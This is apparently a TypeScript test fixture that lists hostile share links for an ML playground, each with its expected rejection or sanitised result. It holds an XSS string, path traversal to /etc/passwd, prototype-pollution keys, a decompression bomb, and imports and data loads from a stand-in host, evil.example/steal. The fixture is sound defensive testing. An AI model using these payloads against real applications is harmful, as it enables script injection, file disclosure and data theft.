/** Links that mean no good, and what becomes of each: refused in words, or opened as the text and numbers that are left. */
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { deflateSync } from "fflate";
import type { Shared } from "../../playground/share/link.ts";

export interface Hostile {
  readonly name: string;
  /** Behind the `#`. */
  readonly hash: string;
  /** Why it is refused; else what is left of it. */
  readonly refused?: RegExp;
  readonly left?: Partial<Shared>;
}

const lenet = readFileSync(join(import.meta.dirname, "../../examples/06-lenet.dlx"), "utf8");

/** A link to anything; a text stands as it is. */
export const encode = (value: unknown, version: string | number = 1): string =>
  `dlx${version}=${Buffer.from(deflateSync(Buffer.from(typeof value === "string" ? value : JSON.stringify(value)))).toString("base64url")}`;

const learns = `seed 1
input lr = 1e-2 in 1e-4 .. 1 log
input act = relu in [relu, tanh]
let net = [Linear(4), act, Linear(2)]
train (x, label) in batches(toy.moons(n: 40), 20) for 100000 epochs {
  let loss = cross_entropy(net(x), label)
  minimize loss over net with SGD(lr)
  plot loss
}
`;
const damaged = /damaged/;
const page = "<img src=x onerror='window.hacked=1'><script>window.hacked=1</script>";
const evil = "https://evil.example/steal";

/** JSON of a link, with parts that `JSON.stringify` does not write. */
const raw = (parts: string, text = learns) => encode(`{"f":"a.dlx","t":${JSON.stringify(text)},${parts}}`);

export const hostile: readonly Hostile[] = [
  // ---- refused
  { name: "a newer format", hash: encode({ t: "x" }, 2), refused: /newer playground \(format 2\)/ },
  { name: "a format far away", hash: encode({ t: "x" }, 999999), refused: /newer playground \(format 999999\)/ },
  { name: "a format of a hundred digits", hash: encode({ t: "x" }, "1".repeat(100)), refused: damaged },
  { name: "no letters", hash: "dlx1=", refused: damaged },
  { name: "cut off", hash: encode({ t: lenet }).slice(0, 200), refused: damaged },
  { name: "not of the alphabet", hash: "dlx1=<script>window.hacked=1</script>", refused: damaged },
  { name: "with more behind it", hash: `${encode({ t: "x" })}&token=abc`, refused: damaged },
  { name: "not deflated", hash: `dlx1=${Buffer.from('{"t":"x"}').toString("base64url")}`, refused: damaged },
  { name: "not JSON", hash: encode("let x = 1"), refused: damaged },
  {
    name: "JSON a hundred thousand levels deep",
    hash: encode(`${"[".repeat(1e5)}${"]".repeat(1e5)}`),
    refused: damaged,
  },
  { name: "no text", hash: encode({ f: "a.dlx" }), refused: damaged },
  { name: "a text that is none", hash: encode({ t: { toString: "x" } }), refused: damaged },
  { name: "a list", hash: encode([1, 2]), refused: damaged },
  { name: "nothing", hash: encode("null"), refused: damaged },
  { name: "a bomb", hash: encode({ t: "x".repeat(50_000_000) }), refused: damaged },
  { name: "a text above a million bytes", hash: encode({ t: `# ${"x".repeat(1_000_000)}\n` }), refused: damaged },
  // ---- opened, and harmless
  {
    name: "code as its name",
    hash: encode({ f: page, t: learns }),
    left: { file: "img srcx onerrorwindow.hacked1scriptwindow.hacked1script.dlx" },
  },
  {
    name: "a path as its name",
    hash: encode({ f: "../../../etc/passwd", t: learns }),
    left: { file: "etcpasswd.dlx" },
  },
  {
    name: "a name written backwards",
    hash: encode({ f: "\u202Exld.exe\u0000\u200B", t: learns }),
    left: { file: "xld.exe.dlx" },
  },
  {
    name: "code in texts and labels",
    hash: encode({ t: `print "${page.replaceAll("'", "")}"\n# ${page}\n${learns}` }),
  },
  { name: "an import of an address", hash: encode({ t: `import Block from "${evil}.dlx"\n${learns}` }) },
  {
    name: "an import of a local file",
    hash: encode({ t: `import Block from "file:///etc/passwd"\nimport B from "../../x.dlx"\n` }),
  },
  { name: "data of an address", hash: encode({ t: `let data = csv("${evil}.csv", target: "y")\n` }) },
  {
    name: "data of a local file",
    hash: encode({ t: `let data = csv("/etc/passwd")\nlet more = npy("C:\\\\secret.npy")\n` }),
  },
  { name: "params of an address", hash: encode({ t: learns.replace("Linear(2)]", `Linear(2)] |> load("${evil}")`) }) },
  {
    name: "names of the prototype",
    hash: raw(`"i":{"__proto__":{"hacked":1},"constructor":1,"toString":"x","hasOwnProperty":2},"__proto__":{"t":"y"}`),
  },
  { name: "inputs that the script does not have", hash: encode({ t: learns, i: { none: 1, other: "x" } }) },
  { name: "inputs of another type", hash: encode({ t: learns, i: { lr: "fast", act: 7 } }) },
  { name: "inputs beyond all bounds", hash: encode({ t: learns, i: { lr: 1e308, act: "x".repeat(1e5) } }) },
  { name: "inputs that are no numbers", hash: raw(`"i":{"lr":1e999,"act":null}`), left: { inputs: {} } },
  {
    name: "a hundred thousand inputs",
    hash: encode({ t: learns, i: Object.fromEntries(Array.from({ length: 5e4 }, (_, i) => [`i${i}`, i])) }),
  },
  { name: "a seed that is none", hash: encode({ t: learns, s: -1 }), left: { seed: undefined } },
  { name: "a seed beyond whole numbers", hash: raw(`"s":1e400`), left: { seed: undefined } },
  {
    name: "the largest seed",
    hash: encode({ t: learns, s: Number.MAX_SAFE_INTEGER }),
    left: { seed: Number.MAX_SAFE_INTEGER },
  },
  { name: "a panel of the prototype", hash: encode({ t: learns, l: { tab: "__proto__" } }) },
  { name: "letters that are none", hash: raw(`"x":"\\ud800"`, `# \u202E\u2066\uFEFF\u0000 \uDFFF\n${learns}`) },
  { name: "ten thousand brackets", hash: encode({ t: `let x = ${"(".repeat(1e4)}1${")".repeat(1e4)}\n` }) },
  { name: "a line of half a million letters", hash: encode({ t: `let ${"x".repeat(5e5)} = 1\n` }) },
  { name: "a tensor of a million millions", hash: encode({ t: `print sum(ones([1000000, 1000000]))\n` }) },
];
